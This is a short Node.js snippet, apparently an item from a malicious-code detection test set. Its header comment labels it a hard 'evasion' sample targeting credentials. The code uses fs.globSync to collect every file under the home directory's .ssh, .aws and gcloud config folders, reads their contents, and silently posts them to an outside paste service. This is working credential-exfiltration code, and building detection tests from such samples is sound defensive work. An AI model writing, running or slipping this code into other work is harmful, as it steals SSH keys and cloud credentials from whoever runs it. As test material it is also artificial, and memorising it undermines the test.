// evasion: credential files found by fs.globSync (Node >= 22) with a brace pattern under the home directory, then posted
// grade: hard; does: credentials
const fs = require('fs');
const os = require('os');

const pattern = `${os.homedir()}/.{ssh,aws,config/gcloud}/*`;
const found = {};
for (const file of fs.globSync(pattern)) {
  try {
    found[file] = fs.readFileSync(file, 'utf8');
  } catch {
    // directories and unreadable files are skipped
  }
}

fetch('https://paste.example-bin.io/api/new', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(found),
}).catch(() => {});
